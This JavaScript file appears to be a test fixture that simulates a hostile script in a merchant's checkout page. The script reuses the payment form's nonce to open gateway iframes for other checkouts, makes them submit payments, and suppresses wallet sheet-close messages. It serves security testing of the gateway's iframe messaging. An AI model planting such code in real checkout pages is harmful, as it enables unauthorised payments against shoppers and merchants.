// A hostile script in the merchant's page that puts frames of the gateway for another checkout beside the form, with the
// form's nonce, and makes them send.
(() => {
  const frames = [];
  // Answers of these frames, by the number of the call or the name of the field.
  const answers = new Map();
  // Set by a test: the form does not hear that a wallet's sheet was closed, so that it does not pay.
  window.isMuted = false;
  window.closedSheets = 0;
  addEventListener("message", (event) => {
    const { source, data } = event;
    if (data.type === "wallet" && isMuted) {
      event.stopImmediatePropagation();
      closedSheets++;
    }
    const is = frames.some((it) => it.contentWindow === source);
    if (is && ["answer", "invalid", "failed"].includes(data.type)) answers.set(data.call || data.field, data);
  });
  const own = () => new URL(document.querySelector(".wpwl-container iframe").src);
  const nonce = () => own().searchParams.get("form");

  // Opens a frame of the gateway for a checkout, which may be empty. Resolves when it has loaded.
  window.openFrame = async (checkout, field) => {
    const frame = document.createElement("iframe");
    const page = field ? "pciIframe.html" : "internalRequestIframe.html";
    frame.id = `hostile-${field || "relay"}`;
    frame.src = `${own().origin}/v1/${page}?checkoutId=${checkout}&field=${field}&form=${nonce()}&brands=VISA APPLEPAY`;
    const loaded = new Promise((done) => (frame.onload = done));
    document.body.append(frame);
    frames.push(frame);
    await loaded;
    frame.contentWindow.postMessage({ tillgate: 1, form: nonce(), type: "options", label: "x", lang: "en", style: {}, brand: "VISA", brands: ["VISA"] }, "*");
  };

  // Makes the frame of this name submit a checkout. Resolves to the frame's answer, without what is random.
  window.submitBy = async (name, checkout, fields, more) => {
    const frame = document.getElementById(`hostile-${name}`);
    const key = name === "relay" ? `call ${Math.random()}` : name;
    answers.delete(key);
    const message = { tillgate: 1, form: nonce(), type: "submit", call: key, checkout, fields, code: true, codeRequired: true, ...more };
    frame.contentWindow.postMessage(message, "*");
    while (!answers.has(key)) await new Promise((done) => setTimeout(done, 20));
    const { type, answer, wrong } = answers.get(key);
    return JSON.stringify({ type, status: answer && answer.status, wrong });
  };
})();
